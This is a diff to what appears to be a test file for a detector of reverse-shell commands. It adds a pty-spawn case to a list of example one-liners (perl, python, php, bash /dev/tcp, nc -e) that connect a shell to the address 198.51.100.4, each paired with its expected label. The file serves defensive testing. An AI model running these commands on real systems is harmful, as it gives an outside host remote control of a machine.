@@ -46,6 +46,8 @@ TOOL = "parent_fake_tool"
         # a shell for another host
         ("perl -e use Socket;$i='198.51.100.4';socket(S,PF_INET,SOCK_STREAM,6)", [REVERSE]),
         ("python3 -c 'import socket,os,pty;s=socket.socket()'", [REVERSE]),
+        ("python3 -c import pty;pty.spawn('/bin/bash')", [REVERSE]),
+        ("python3 -c import pty", []),
         ("/usr/bin/php8.1 -r '$s=fsockopen(1);socket_connect($s)'", [REVERSE]),
         ("bash -c bash -i >& /dev/tcp/198.51.100.4/443 0>&1", [REVERSE]),
         ("nc 198.51.100.4 443 -e /bin/sh", [REVERSE]),
